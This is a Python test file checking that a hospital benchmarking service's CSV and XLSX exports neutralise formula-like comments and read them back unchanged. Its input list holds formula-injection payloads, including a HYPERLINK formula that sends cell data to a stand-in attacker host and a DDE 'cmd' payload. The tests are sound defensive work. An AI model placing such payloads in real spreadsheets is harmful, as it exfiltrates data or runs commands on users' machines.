"""Comments are stored as sent; every spreadsheet export neutralises formula-like text (issue 21).

Exports that carry comments: the prefilled templates (CSV and XLSX, what `GET …/template.csv|xlsx`
and the dashboards' download serve for corrections). The review queue and the feedback report have
no spreadsheet export (JSON, HTML/PDF with escaped text).
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from services.benchmark.exports import to_csv, to_xlsx
from services.submission.io_csv import csv_template, parse_csv
from services.submission.io_template import xlsx_template
from services.submission.io_xlsx import parse_xlsx
from tests.submission_io.builders import INDICATORS, META

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def prefilled(comment: str) -> list:
    return [
        replace(
            item, reported_numerator=3, reported_denominator=10, reported_comment=comment if i == 0 else None
        )
        for i, item in enumerate(INDICATORS)
    ]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("comment", FORMULAS)
def test_the_csv_template_neutralises_a_formula_like_comment_and_reads_it_back_as_sent(comment: str):
    data = csv_template(META, prefilled(comment))
    cells = [cell for row in csv_cells(data) for cell in row]
    assert "'" + comment in cells  # the spreadsheet shows text, runs nothing
    assert comment not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells if c not in ("-",))
    rows = parse_csv(data, expected=META)
    assert [r.comment for r in rows if r.comment] == [comment]  # stored as first sent


@pytest.mark.parametrize("comment", FORMULAS)
def test_the_xlsx_template_writes_a_formula_like_comment_as_text_and_reads_it_back(comment: str):
    data = xlsx_template(META, prefilled(comment), hospital_name='=HYPERLINK("x")')
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
    read = comment.replace("\r", "\n")  # XML turns a carriage return into a line feed
    assert any(c.value == read and c.data_type == "s" for c in cells)
    rows = parse_xlsx(data, expected=META)
    assert [r.comment for r in rows if r.comment] == [read]


def test_a_comment_that_merely_starts_with_an_apostrophe_is_kept():
    data = csv_template(META, prefilled("'引用的说明"))
    rows = parse_csv(data, expected=META)
    assert [r.comment for r in rows if r.comment] == ["'引用的说明"]


@pytest.mark.parametrize("comment", FORMULAS)
def test_table_exports_neutralise_text_and_keep_negative_numbers(comment: str):
    rows = [{"hospital_name": comment, "change": -0.25, "comment": comment}]
    columns = ("hospital_name", "change", "comment")
    cells = csv_cells(to_csv(rows, columns))[1]
    assert cells == ["'" + comment, "-0.25", "'" + comment]
    sheet = load_workbook(io.BytesIO(to_xlsx(rows, columns))).active
    values = [c.value for c in sheet[2]]
    read = "'" + comment.replace("\r", "\n")  # XML turns a carriage return into a line feed
    assert values == [read, -0.25, read]
    assert all(c.data_type != "f" for c in sheet[2])
